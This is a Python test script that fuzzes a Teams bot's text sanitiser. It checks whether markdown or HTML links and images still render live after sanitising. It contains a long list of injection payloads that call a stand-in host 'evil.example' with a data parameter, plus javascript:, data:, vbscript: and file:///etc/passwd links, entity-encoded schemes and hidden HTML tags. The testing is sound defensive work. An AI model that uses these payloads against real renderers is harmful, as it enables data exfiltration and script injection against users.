"""Fourth pass on bot/teams_text.no_exfiltration: links and images a CommonMark renderer (markdown-it-py,
in the shared venv) still makes live after teams_message_text. Flags any <a href> or <img src> whose URL is not
http(s) to an allowed host (none allowed here), including javascript:/data:/vbscript:/file: schemes, entity-
encoded schemes and look-alike colons. Bounded: a fixed list plus 3,000 random short mixes.

Run: .venv/bin/python attack/link_neutraliser4.py
"""

import random
import re
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from markdown_it import MarkdownIt  # noqa: E402

from bot.teams_text import teams_message_text  # noqa: E402

E = "https://evil.example/x?d=S"
PAYLOADS = {
    "inline link": f"[a]({E})",
    "reference link full": f"[a][r]\n\n[r]: {E}",
    "reference link collapsed": f"[r][]\n\n[r]: {E}",
    "reference link shortcut": f"[r]\n\n[r]: {E}",
    "reference def indented 3": f"[r]\n\n   [r]: {E}",
    "reference def after lazy para": f"[r]\n\n[r]:  <{E}>  'title'",
    "reference def title next line": f"[r]\n\n[r]: {E}\n'title'",
    "reference def label over two lines": f"[r s]\n\n[r\ns]: {E}",
    "reference def in nested quote+list": f"[r]\n\n> - > [r]: {E}",
    "reference def inside list after para": f"[r]\n\n- item\n\n  [r]: {E}",
    "reference def with tab": f"[r]\n\n[r]:\t{E}",
    "reference def after setext-like": f"[r]\n\nfoo\n[r]: {E}",
    "autolink": f"<{E}>",
    "autolink javascript": "<javascript:alert(1)>",
    "autolink email": "<a@evil.example>",
    "autolink uppercase scheme": "<HTTPS://evil.example/x>",
    "inline javascript": "[a](javascript:alert(1))",
    "inline entity javascript": "[a](&#106;avascript:alert(1))",
    "inline entity colon": "[a](javascript&#58;alert(1))",
    "inline entity named colon": "[a](javascript&colon;alert(1))",
    "inline entity https": "[a](https&#58;//evil.example/x)",
    "inline entity hex": "[a](&#x68;ttps://evil.example/x)",
    "inline data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "inline vbscript": "[a](vbscript:msgbox(1))",
    "inline file": "[a](file:///etc/passwd)",
    "inline fullwidth colon": "[a](https\uff1a//evil.example/x)",
    "inline scheme-less //": "[a](//evil.example/x)",
    "inline backslash host": "[a](https:\\\\evil.example/x)",
    "inline with userinfo": "[a](https://ok@evil.example/x)",
    "inline nested brackets": f"[a [b] c]({E})",
    "inline link in image alt": f"![[a]({E})](x)",
    "inline escaped paren in url": "[a](https://evil.example/x\\(y)",
    "inline angle with space": "[a](<https://evil.example/x y>)",
    "inline newline in dest angle": "[a](\n<https://evil.example/x>\n)",
    "inline title with parens": f"[a]({E} (t))",
    "inline title single quotes": f"[a]({E} 't')",
    "inline balanced parens": "[a](https://evil.example/x(y))",
    "inline link text spans lines": f"[a\nb]({E})",
    "link text is code": f"[`x`]({E})",
    "link across emphasis": f"*[a*]({E})",
    "html a": f'<a href="{E}">a</a>',
    "html A upper": f'<A HREF="{E}">a</A>',
    "html img": f'<img src="{E}">',
    "html block div then img": f'<div>\n<img src="{E}">\n</div>',
    "html inline iframe": f'<iframe src="{E}"></iframe>',
    "html area/form": f'<form action="{E}"><button>x</button></form>',
    "html base": f'<base href="{E}">',
    "html meta refresh": f'<meta http-equiv="refresh" content="0;url={E}">',
    "html style bg": f'<div style="background:url({E})">x</div>',
    "html table background": f'<table background="{E}"><tr><td>x</td></tr></table>',
    "html input image": f'<input type="image" src="{E}">',
    "html img with newline": f'<img\nsrc="{E}">',
    "html img with slash": f'<img/src="{E}">',
    "html entity-encoded lt": f'&lt;img src="{E}"&gt;',
    "image ref": f"![a][r]\n\n[r]: {E}",
    "image in ref label": f"[![a](x)][r]\n\n[r]: {E}",
    "bracket-escaped ref def": f"[r\\]]\n\n[r\\]]: {E}",
    "ref def 4-space indent (code)": f"[r]\n\n    [r]: {E}",
    "ref def after table-ish": f"[r]\n\n| a |\n[r]: {E}",
    "setext heading then def": f"[r]\n\n[r]: {E}\n===",
    "crlf ref def": f"[r]\r\n\r\n[r]: {E}\r\n",
    "cr-only ref def": f"[r]\r\r[r]: {E}\r",
    "ref def in unicode line sep": f"[r]\u2028\u2028[r]: {E}",
    "def within fenced-looking but not": f"[r]\n\n ```x`\n[r]: {E}\n```",
    "tilde fence in list": f"- ~~~\n  x\n  ~~~\n[a]({E})",
}

md = MarkdownIt("commonmark")
LIVE = re.compile(r'<(?:a href|img src)="([^"]*)"', re.I)


def live(markdown: str) -> list[str]:
    html = md.render(teams_message_text(markdown))
    found = [u for u in LIVE.findall(html)]
    raw_html = re.findall(r"<(?:iframe|form|base|meta|table|input|div|img|a)\b[^>]*>", html, re.I)
    return found + raw_html


flags = 0
for name, payload in PAYLOADS.items():
    hits = live(payload)
    flags += bool(hits)
    print(f"{'LIVE' if hits else 'held'}  {name}: {hits[:2]} sent={teams_message_text(payload)!r:.120}")

rng = random.Random(19)
PIECES = [
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    "\\",
    "\n",
    " ",
    ":",
    "`",
    "r",
    "a",
    '"',
    "'",
    "*",
    "> ",
    "- ",
    "https://evil.example/x",
    "javascript:x",
    "&#106;",
    "[r]: ",
    "```",
    "~~~",
    "    ",
    "\t",
    "&colon;",
]
random_flags = []
for _ in range(3000):
    text = "".join(rng.choice(PIECES) for _ in range(rng.randint(3, 18)))
    hits = live(text)
    if hits:
        random_flags.append((text, hits))
print(f"{flags} of {len(PAYLOADS)} listed payloads live; {len(random_flags)} of 3000 random mixes live")
for text, hits in random_flags[:15]:
    print("  RANDOM", repr(text), hits[:2], repr(teams_message_text(text))[:140])
